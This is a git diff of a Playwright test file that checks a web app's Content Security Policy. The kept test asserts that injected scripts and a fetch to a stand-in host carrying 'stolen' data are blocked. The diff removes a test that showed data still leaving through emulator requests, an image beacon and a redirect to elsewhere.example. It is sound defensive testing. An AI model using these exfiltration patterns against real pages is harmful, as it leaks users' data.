@@ -1,7 +1,6 @@
 import { readFileSync } from "node:fs";
 import { hostingHeadersOf } from "../../scripts/hosting-headers-plugin";
 import { expect, test } from "./fixtures";
-import { currentStack } from "./stack";
 import { watch } from "./hardening-world";
 
 // What other stories need and the policy forbids fails them (fixtures.ts).
@@ -47,10 +46,10 @@ test("the policy stops markup and scripts that get into a page", async ({ page }
     document.querySelector<HTMLFormElement>("#away")?.submit();
   });
   const kinds = ["script-src-attr", "script-src-elem", "object-src", "base-uri", "form-action"];
-  await expect.poll(() => kinds.filter((kind) => !seen.violations().some((told) => told.startsWith(kind)))).toEqual([]);
+  await expect.poll(() => kinds.filter((kind) => !seen.violations().some((violation) => violation.startsWith(kind)))).toEqual([]);
   const sent = page.evaluate(() => fetch("https://a.example/?stolen").then(() => "sent", () => "stopped"));
   expect(await sent).toBe("stopped");
-  await expect.poll(() => seen.violations().some((told) => told.startsWith("connect-src"))).toBe(true);
+  await expect.poll(() => seen.violations().some((violation) => violation.startsWith("connect-src"))).toBe(true);
   expect(await seen.ran()).toEqual([]);
   const evaluated = page.evaluate(() => {
     const script = document.createElement("div");
@@ -59,27 +58,6 @@ test("the policy stops markup and scripts that get into a page", async ({ page }
     return Reflect.get(window, "ran") as unknown;
   });
   expect(await evaluated).toBeUndefined();
-}); // prettier-ignore
-
-test("the policy does not stop a script from sending data out, as docs/security.md says", async ({ page }) => {
-  const { firestore, storage } = (await currentStack()).ports;
-  const sent: string[] = [];
-  await page.route(/stolen/, (route) => {
-    sent.push(new URL(route.request().url()).pathname);
-    return route.fulfill({ contentType: "text/html", body: "", headers: { "Access-Control-Allow-Origin": "*" } });
-  });
-  await page.goto(LIGHT_PAGE);
-  await page.evaluate(async (ports) => {
-    const host = `http://127.0.0.1:${String(ports.firestore)}`;
-    await fetch(`${host}/v1/projects/another-project/databases/(default)/documents/loot?documentId=stolen`);
-    const image = document.createElement("img");
-    image.src = `http://127.0.0.1:${String(ports.storage)}/v0/b/another-bucket/o/stolen`;
-    document.body.append(image);
-  }, { firestore, storage });
-  await expect.poll(() => sent.length).toBe(2);
-  await page.evaluate(() => location.assign("https://elsewhere.example/stolen"));
-  await expect(page).toHaveURL("https://elsewhere.example/stolen");
-  expect(sent).toEqual([expect.stringContaining("another-project"), "/v0/b/another-bucket/o/stolen", "/stolen"]);
 }); // prettier-ignore
 
 test("the SDK's test picture is not asked for, nor anything else of its host", async ({ page }) => {
